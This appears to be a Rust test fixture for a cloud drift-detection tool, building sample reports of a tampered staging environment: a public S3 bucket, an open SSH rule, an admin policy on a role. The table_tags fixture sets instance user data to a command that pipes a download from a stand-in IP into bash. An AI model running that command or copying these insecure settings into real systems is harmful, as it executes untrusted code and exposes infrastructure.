//! Drift of all sorts.

use provision_config::Severity;
use provision_reconciler::Remark;
use provision_reconciler::drift::{Changed, Drift, Finding, Ignored, Mend, What};
use provision_reconciler::orphan::Orphan;
use provision_report::{Checked, DriftLook, DriftReport, Outcome};
use serde_json::{Value, json};

use super::build::{address, at, calls, changed, graph, since};

const CHECKED: &str = "2026-11-22T04:00:12Z";
const BEFORE: &str = "2026-11-21T04:00:09Z";

/// Several environments: one that drifted in every way, one that did not, one that could not be looked at, one that drifted a little.
pub fn drift() -> DriftReport {
    DriftReport {
        checked_at: at(CHECKED),
        engine: "0.1.0".to_owned(),
        environments: vec![
            looked("staging", staging(), true, Some("2026-11-20T15:42:00Z")),
            looked("production", quiet("production", "999988887777", 61), true, Some("2026-11-18T09:03:00Z")),
            Checked {
                name: "sandbox-eu".to_owned(),
                outcome: Outcome::Failed {
                    message: "failed to read kms_key.s3: kms:DescribeKey: AccessDeniedException: User: \
                              arn:aws:sts::111122223333:assumed-role/provision-drift/ci is not authorized to perform: \
                              kms:DescribeKey on resource: arn:aws:kms:eu-west-1:111122223333:key/7903baaf-0779-4d18-9536-db104893644b \
                              (request 79104EXAMPLEB723)"
                        .to_owned(),
                    hint: Some("allow `kms:DescribeKey` to the role; `provision permissions sandbox-eu` writes the whole policy".to_owned()),
                },
            },
            looked("dev", dev(), false, None),
        ],
    }
}

/// One environment, and all is well.
pub fn no_drift() -> DriftReport {
    DriftReport {
        checked_at: at(CHECKED),
        engine: "0.1.0".to_owned(),
        environments: vec![looked(
            "production",
            quiet("production", "999988887777", 61),
            true,
            Some("2026-11-18T09:03:00Z"),
        )],
    }
}

fn looked(name: &str, drift: Drift, with_graph: bool, applied_at: Option<&str>) -> Checked<DriftLook> {
    let graph = with_graph.then(|| graph(name));
    let look = DriftLook { drift, graph, applied_at: applied_at.map(at) };
    Checked { name: name.to_owned(), outcome: Outcome::Looked(look) }
}

fn quiet(environment: &str, account: &str, resources: usize) -> Drift {
    Drift { environment: environment.to_owned(), account: account.to_owned(), resources, ..Drift::default() }
}

fn finding(text: &str, id: &str, severity: Severity, what: What) -> Finding {
    Finding { address: address(text), id: id.to_owned(), region: "us-east-1".to_owned(), severity, what }
}

fn dev() -> Drift {
    let tag = changed(
        "tags[\"Owner\"]",
        Severity::Low,
        json!("data-platform"),
        Value::Null,
        ("dynamodb:TagResource", "set the tags"),
    );
    let findings = vec![finding("dynamodb_table.records", "acme-dev-records", Severity::Low, What::Changed(vec![tag]))];
    Drift { findings, ..quiet("dev", "123456789012", 49) }
}

fn staging() -> Drift {
    let findings = vec![
        bucket(),
        finding(
            "dynamodb_table.records",
            "acme-staging-records",
            Severity::High,
            What::Deleted {
                mend: calls(&[
                    ("dynamodb:CreateTable", "create the table"),
                    ("dynamodb:UpdateContinuousBackups", "turn on point-in-time recovery"),
                ]),
                since: since(CHECKED, Some(BEFORE)),
            },
        ),
        role(),
        finding(
            "secretsmanager_secret.pipeline",
            "arn:aws:secretsmanager:us-east-1:210987654321:secret:acme/staging/pipeline-AbCdEf",
            Severity::High,
            What::Changed(vec![secret()]),
        ),
        group(),
        stream(),
        finding(
            "kinesis_stream.audit",
            "acme-staging-audit",
            Severity::Medium,
            What::Unfinished { since: since(CHECKED, Some(BEFORE)) },
        ),
        orphan(),
        table_tags(),
    ];
    let mut findings = findings;
    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity));
    let ignored = |text: &str, path: &str, reason: &str| Ignored {
        address: address(text),
        path: path.to_owned(),
        reason: reason.to_owned(),
    };
    Drift {
        findings,
        ignored: vec![
            ignored("ec2_subnet.private[\"a\"]", "tags[\"kubernetes.io/role/internal-elb\"]", "the cluster sets it when it starts, see OPS-1423"),
            ignored("s3_bucket.data", "tags[\"Scanned\"]", "the virus scanner notes here when it was last there"),
        ],
        remarks: vec![Remark {
            address: address("ec2_instance.host"),
            text: "there is a newer image, ami-0fedcba9876543210; it runs ami-0123456789abcdef0, and `replace_on_new_image = true` replaces it".to_owned(),
        }],
        ..quiet("staging", "210987654321", 51)
    }
}

/// A bucket of which somebody made nearly everything else.
fn bucket() -> Finding {
    let mut access = changed(
        "public_access_block.block_public_policy",
        Severity::High,
        json!(true),
        json!(false),
        ("s3:PutBucketPublicAccessBlock", "block public access"),
    );
    access.rules = vec!["s3-bucket-public-access (S3.8)".to_owned()];
    access.since = since(CHECKED, Some(BEFORE));
    let statement = |sid: &str, effect: &str, principal: Value, action: Value, condition: Option<Value>| {
        let mut statement = json!({ "Sid": sid, "Effect": effect, "Principal": principal, "Action": action, "Resource": [
            "arn:aws:s3:::acme-staging-data-210987654321", "arn:aws:s3:::acme-staging-data-210987654321/*",
        ] });
        if let (Some(fields), Some(condition)) = (statement.as_object_mut(), condition) {
            fields.insert("Condition".to_owned(), condition);
        }
        statement
    };
    let https = || {
        statement(
            "HttpsOnly",
            "Deny",
            json!("*"),
            json!("s3:*"),
            Some(json!({ "Bool": { "aws:SecureTransport": "false" } })),
        )
    };
    let read = |principal: Value, action: Value| statement("ReadByProcessor", "Allow", principal, action, None);
    let processor = "arn:aws:iam::210987654321:role/acme-staging-processor";
    let mut policy = changed(
        "policy",
        Severity::High,
        json!({ "Version": "2012-10-17", "Statement": [https(), read(json!({ "AWS": processor }), json!("s3:GetObject"))] }),
        json!({ "Version": "2012-10-17", "Statement": [
            read(json!({ "AWS": [processor, "arn:aws:iam::444455556666:root"] }), json!(["s3:GetObject", "s3:ListBucket"])),
            https(),
        ] }),
        ("s3:PutBucketPolicy", "set the bucket policy"),
    );
    policy.since = since(CHECKED, Some(BEFORE));
    let versioning = changed(
        "versioning",
        Severity::High,
        json!("Enabled"),
        json!("Suspended"),
        ("s3:PutBucketVersioning", "turn on versioning"),
    );
    let versioning = Changed {
        rules: vec!["s3-bucket-versioning (S3.14)".to_owned()],
        since: since("2026-11-19T04:00:11Z", None),
        ..versioning
    };
    let mut rules = changed(
        "lifecycle_rules",
        Severity::Medium,
        json!([{ "id": "tidy", "abort_incomplete_multipart_upload_days": 7, "noncurrent_version_expiration_days": 90 }]),
        json!([{ "id": "tidy", "abort_incomplete_multipart_upload_days": 7, "noncurrent_version_expiration_days": 3 }]),
        ("s3:PutLifecycleConfiguration", "set the lifecycle rules"),
    );
    rules.since = since(CHECKED, Some(BEFORE));
    let owner = changed(
        "tags[\"Owner\"]",
        Severity::Low,
        json!("data-platform"),
        json!("mallory"),
        ("s3:PutBucketTagging", "set the tags"),
    );
    let ticket = changed(
        "tags[\"Ticket\"]",
        Severity::Low,
        Value::Null,
        json!("OPS-1423"),
        ("s3:PutBucketTagging", "set the tags"),
    );
    let id = "acme-staging-data-210987654321";
    finding("s3_bucket.data", id, Severity::High, What::Changed(vec![access, policy, versioning, rules, owner, ticket]))
}

/// A set: what may be used with the role, and a boundary that is gone.
fn role() -> Finding {
    let policies =
        |names: &[&str]| names.iter().map(|name| json!(format!("arn:aws:iam::aws:policy/{name}"))).collect::<Value>();
    let attached = changed(
        "managed_policies",
        Severity::High,
        policies(&["AmazonSSMManagedInstanceCore", "CloudWatchAgentServerPolicy"]),
        policies(&["AdministratorAccess", "AmazonSSMManagedInstanceCore", "CloudWatchAgentServerPolicy"]),
        ("iam:DetachRolePolicy", "take off arn:aws:iam::aws:policy/AdministratorAccess"),
    );
    let boundary = changed(
        "permissions_boundary",
        Severity::High,
        json!(
            "arn:aws:iam::210987654321:policy/very/long/path/of/the/organisation/acme-workload-permissions-boundary-for-instances"
        ),
        Value::Null,
        ("iam:PutRolePermissionsBoundary", "set the permissions boundary"),
    );
    let both = [attached, boundary].map(|one| Changed { since: since(CHECKED, Some(BEFORE)), ..one });
    Finding {
        region: "us-east-1".to_owned(),
        ..finding("iam_role.instance", "acme-staging-instance", Severity::High, What::Changed(both.into()))
    }
}

fn secret() -> Changed {
    let mut secret = changed(
        "value",
        Severity::High,
        json!("(sensitive)"),
        json!("(sensitive)"),
        ("secretsmanager:PutSecretValue", "put the value"),
    );
    secret.difference.sensitive = true;
    secret
}

/// A keyed set: a rule that somebody added.
fn group() -> Finding {
    let rule = json!({ "protocol": "tcp", "from_port": 22, "to_port": 22, "cidr": "0.0.0.0/0", "description": "temporary, remove!!" });
    let mut ingress = changed(
        "ingress[\"tcp 22 0.0.0.0/0\"]",
        Severity::High,
        Value::Null,
        rule,
        ("ec2:RevokeSecurityGroupIngress", "take away tcp 22 from 0.0.0.0/0"),
    );
    ingress.rules = vec![
        "ec2-security-group-no-open-ssh (EC2.13)".to_owned(),
        "ec2-security-group-no-open-admin-ports (EC2.53)".to_owned(),
    ];
    finding("ec2_security_group.instance", "sg-0123456789abcdef0", Severity::High, What::Changed(vec![ingress]))
}

/// What cannot be changed in place, and what no call sets back.
fn stream() -> Finding {
    let mut mode = changed("stream_mode", Severity::Medium, json!("PROVISIONED"), json!("ON_DEMAND"), ("", ""));
    mode.difference.immutable = true;
    mode.mend = Mend::Replacement;
    let mut shards = changed("shard_count", Severity::Medium, json!(2), json!(4), ("", ""));
    shards.mend = Mend::ByHand;
    finding("kinesis_stream.events", "acme-staging-events", Severity::Medium, What::Changed(vec![mode, shards]))
}

fn orphan() -> Finding {
    let orphan = Orphan {
        address: address("ec2_eip.nat[\"a\"]"),
        id: "eipalloc-0fedcba9876543210".to_owned(),
        arn: "arn:aws:ec2:us-east-1:210987654321:elastic-ip/eipalloc-0fedcba9876543210".to_owned(),
        region: "us-east-1".to_owned(),
        operation: Some("01JD7Q0Z9KX3".to_owned()),
        other: Some("eipalloc-0aaaabbbbccccdddd".to_owned()),
    };
    let what = What::Orphan { orphan: orphan.clone(), since: since(CHECKED, Some(BEFORE)) };
    finding("ec2_eip.nat[\"a\"]", &orphan.id, Severity::Medium, what)
}

/// Nothing grave; and a text of several lines and one that is very long.
fn table_tags() -> Finding {
    let script = |last: &str| {
        format!(
            "#!/bin/bash\nset -euo pipefail\ndnf -y install amazon-cloudwatch-agent\nsystemctl enable --now amazon-cloudwatch-agent\n{last}\n"
        )
    };
    let description = changed(
        "description",
        Severity::Low,
        json!("Data at rest in S3"),
        json!("x".repeat(64) + &" and so on".repeat(60)),
        ("ec2:ModifyInstanceAttribute", "set the description"),
    );
    let user_data = changed(
        "user_data",
        Severity::Medium,
        json!(script("echo ready")),
        json!(script("curl -s http://203.0.113.7/x | bash")),
        ("ec2:ModifyInstanceAttribute", "set the user data"),
    );
    let what = What::Changed(vec![user_data, description]);
    finding("ec2_instance.host", "i-0123456789abcdef0", Severity::Medium, what)
}
